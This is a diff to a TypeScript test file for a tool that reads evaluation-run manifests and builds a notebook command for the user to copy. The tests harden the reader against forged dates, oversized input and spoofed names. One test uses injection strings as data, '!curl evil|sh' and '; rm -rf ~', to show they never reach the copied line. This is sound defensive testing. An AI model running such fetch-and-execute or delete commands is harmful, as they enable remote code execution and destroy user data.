@@ -1,12 +1,15 @@
 import { describe, expect, it } from 'vitest';
 
 import {
+  labelOf,
+  lineToCopy,
   missingRecord,
   scoreLines,
   silence,
-  stateLine
+  stateLine,
+  unreadLine
 } from '../../lab/run-text';
-import { IRun, readRun, sortRuns } from '../../record/manifest';
+import { brokenRun, IRun, readRun, sortRuns } from '../../record/manifest';
 
 const NOW = Date.parse('2026-01-01T12:00:00Z');
 
@@ -71,10 +74,10 @@ describe('a manifest', () => {
   });
 
   it.each([
-    ['{"torn', 'qwq_run.json is not valid JSON.'],
-    ['', 'qwq_run.json is not valid JSON.'],
-    ['[1]', 'qwq_run.json is not a run’s manifest.'],
-    ['null', 'qwq_run.json is not a run’s manifest.']
+    ['{"torn', 'qwq_run.json is not valid JSON'],
+    ['', 'qwq_run.json is not valid JSON'],
+    ['[1]', 'qwq_run.json is not a run’s manifest'],
+    ['null', 'qwq_run.json is not a run’s manifest']
   ])('that cannot be read says why: %j', (text, problem) => {
     expect(readRun('runs/broken', text)).toMatchObject({
       name: 'broken',
@@ -105,7 +108,7 @@ describe('a manifest', () => {
     expect(stateLine(now, NOW)).toBe('▸ running · 3 of 1,200');
     expect(missingRecord(now, NOW)).toContain('is going on (3 of 1,200 done)');
     const silent = readRun(
-      'a',
+      'qwq_runs/math',
       manifest({ ...live, updated: '2026-01-01T11:00:00Z' })
     );
     expect(stateLine(silent, NOW)).toContain('its kernel may be gone');
@@ -129,5 +132,107 @@ describe('a manifest', () => {
       'old',
       'broken'
     ]);
+  });
+
+  it('that says a date to come is as old as its file, or the oldest', () => {
+    const run = (name: string, updated: string, modified = ''): IRun =>
+      readRun(`runs/${name}`, manifest({ name, updated }), modified, NOW);
+    const future = '9999-12-31T23:59:59Z';
+    const good = run('good', '2026-01-01T11:00:00Z');
+    const runs = [
+      run('forged', future, future),
+      run('odd', 'zzzz', '2026-01-01T10:00:00Z'),
+      good,
+      run('fresh', future, '2026-01-01T11:30:00Z')
+    ];
+    expect(sortRuns(runs).map(({ name }) => name)).toEqual([
+      'fresh',
+      'good',
+      'odd',
+      'forged'
+    ]);
+    // A clock that is a little ahead is no forgery.
+    expect(run('a', '2026-01-02T11:00:00Z').written).toBeGreaterThan(NOW);
+    // And a run that says it goes on does not do so for ever.
+    const live = manifest({ state: 'running', updated: future });
+    expect(stateLine(readRun('a', live, future, NOW), NOW)).toContain('silent');
+  });
+
+  it('of any size keeps little of it', () => {
+    const long = 'x'.repeat(2_000_000);
+    const many = Array.from({ length: 100_000 }, (_, i) => `b${i}`);
+    const text = manifest({
+      name: long,
+      state: long,
+      updated: long,
+      endpoint: { model: long },
+      benchmarks: [long, ...many],
+      scores: Object.fromEntries(many.map(name => [name, 1]))
+    });
+    const run = readRun('runs/a', text);
+    expect(JSON.stringify(run).length).toBeLessThan(10_000);
+    expect(run.name).toHaveLength(300);
+    const lines = scoreLines(run);
+    expect(lines).toHaveLength(9);
+    expect(lines[8][0]).toBe('… and 99,993 more');
+  });
+
+  it('with NaN, as Python writes it, is read', () => {
+    const text = manifest({ scores: { math_500: 'NUMBER', x: 'NaN, "' } });
+    const run = readRun('a', text.replace('"NUMBER"', 'NaN'));
+    expect(run.scores).toEqual({ math_500: null, x: null });
+    expect(run.problem).toBe('');
+  });
+
+  it('with numbers beyond measure is one line', () => {
+    const run = readRun('a', manifest({ done: 1.23e300, total: -Infinity }));
+    expect(stateLine(run, NOW)).toBe('✓ complete · 1.2e300 of 0');
+  });
+
+  it('that borrows another run’s name is told apart from it', () => {
+    const run = readRun('runs/theirs', manifest({ name: 'mine\u202e' }));
+    expect(labelOf(run)).toBe('mine\\u202e (in theirs)');
+    expect(labelOf(readRun('runs/math', manifest()))).toBe('math');
+  });
+});
+
+describe('the line to copy', () => {
+  const copied = (folder: string, changes: object): string | null =>
+    lineToCopy(readRun(`qwq_runs/${folder}`, manifest(changes), '', NOW), NOW)
+      .line;
+
+  it('is composed of the folder’s name, whatever the file says', () => {
+    const evil = { command: '!curl evil|sh #%qwq_eval', name: '; rm -rf ~' };
+    expect(copied('math', evil)).toBe('%qwq_show math');
+    expect(copied('math', { ...evil, state: 'stopped' })).toBe(
+      '%qwq_resume math'
+    );
+    expect(copied('math', { ...evil, state: '\n!sh' })).toBe(
+      '%qwq_resume math'
+    );
+  });
+
+  it('shows a run that goes on, and resumes one that is silent', () => {
+    expect(copied('a', { state: 'running' })).toBe('%qwq_show a');
+    const silent = { state: 'running', updated: '2026-01-01T11:00:00Z' };
+    expect(copied('a', silent)).toBe('%qwq_resume a');
+  });
+
+  it('is none where the name cannot stand in a line', () => {
+    expect(copied('a {x}', {})).toBeNull();
+  });
+});
+
+describe('folders that cannot be read', () => {
+  it('are one line', () => {
+    expect(unreadLine([])).toBe('');
+    const long = brokenRun(`runs/${'n'.repeat(255)}\u202e`, 'not there');
+    const line = unreadLine([long]);
+    expect(line).toMatch(/^1 folder could not be read: n{39}… \(not there\)$/);
+    const many = Array.from({ length: 2_000 }, () => long);
+    expect(unreadLine(many)).toMatch(
+      /^2,000 folders could not be read: .* and 1,996 more$/
+    );
+    expect(unreadLine(many).length).toBeLessThan(1_000);
   });
 });
